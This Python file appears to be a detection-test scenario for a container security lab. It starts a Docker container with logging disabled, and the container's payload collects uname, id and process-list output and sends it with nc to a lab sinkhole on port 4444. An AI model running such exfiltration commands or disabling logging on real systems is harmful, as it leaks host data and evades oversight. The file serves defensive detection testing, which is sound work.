"""A payload runs in a container whose log driver is ``none``: nothing it prints is kept."""

from __future__ import annotations

from lab import Lab, Logging, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.variants import Dimension

# Where each driver ships the container's output: the lab endpoint (a destination the platform does
# not own), on the port its protocol uses. "none" keeps nothing at all.
SHIPPING = {
    "syslog": (514, {"syslog-address": "udp://{sink}:514"}),
    "gelf": (12201, {"gelf-address": "udp://{sink}:12201", "gelf-compression-type": "none"}),
    "fluentd": (24224, {"fluentd-address": "tcp://{sink}:24224", "fluentd-async": "true"}),
}


class LogDriverNone(Scenario):
    id = "docker.logging.log-driver-none"
    title = "Payload runs in a container with logging disabled (log driver none)"
    kind = Kind.ADVERSARY
    techniques = ("T1562.001", "T1610")
    backends = ("docker",)
    expect = Expectation(fires=("stowaway.docker.logging-disabled",), within_s=15, may_fire={
        "stowaway.net.process-egress-not-allowlisted":
            "Its payload really sends host details with nc to the sinkhole's port 4444 on the lab internet, "
            "outside the egress allowlist.",
        "stowaway.net.egress-not-allowlisted":
            "The same connection really leaves the container for the sinkhole on the lab internet, seen on the "
            "wire, outside the egress allowlist.",
    })
    twin = "docker.logging.dev-minimal-logging"
    tags = ("logging", "defense-evasion")
    dimensions = (
        Dimension("driver", ("none", *SHIPPING), doc="none (the engine keeps nothing), or a driver that ships "
                  "the output to a remote destination the platform does not own: syslog or GELF over UDP, "
                  "fluentd over TCP"),
    )
    description = (
        "Deploys a container on the lab LAN, with a leg on the lab internet, whose log driver is "
        "`none`, so the engine keeps none of its output. Its payload collects host details (uname, "
        "id, the process list) and sends them to the sinkhole's port 4444 three times, two seconds "
        "apart. The scenario checks that the sinkhole really received the data. Variants use the syslog, "
        "GELF or fluentd driver pointed at the sinkhole instead: the engine ships the output there, and "
        "the scenario checks the sinkhole received it."
    )

    def detonate(self, lab: Lab) -> None:
        sink = lab.sinkhole.address
        payload = (
            "echo \"worker $(hostname) ready\"; for i in 1 2 3; do "
            f"{{ uname -a; id; ps -eo pid,comm; }} | nc -w 2 -q 1 {sink} 4444; sleep 2; "
            "done; sleep 30"
        )
        driver = str(self.variant["driver"])
        port, options = SHIPPING.get(driver, (0, {}))
        logging = Logging(driver=driver, options={k: v.format(sink=sink) for k, v in options.items()})
        lab.action(f"deploy a container with log driver {driver}")
        worker = lab.deploy(WorkloadSpec(
            role="worker", networks=("lan", "inet"), logging=logging, command=("sh", "-c", payload),
        ))
        address = worker.addresses["inet"]
        lab.wait_for(lambda: bool(lab.sinkhole_records(peer=address)), timeout=15,
                     what="the payload's data to reach the sinkhole")
        if port:
            # The engine, not the container, sends the diverted output: any peer, on the driver's port.
            # fluentd keeps its connection open: the sinkhole records it once it has idled for 30 s.
            lab.wait_for(lambda: any(r.get("port") == port and r.get("bytes", 0) > 0 and r.get("proto") != "dns"
                                     for r in lab.sinkhole_records()), timeout=50 if driver == "fluentd" else 15,
                         what=f"the {driver} driver to ship the output to the sinkhole")
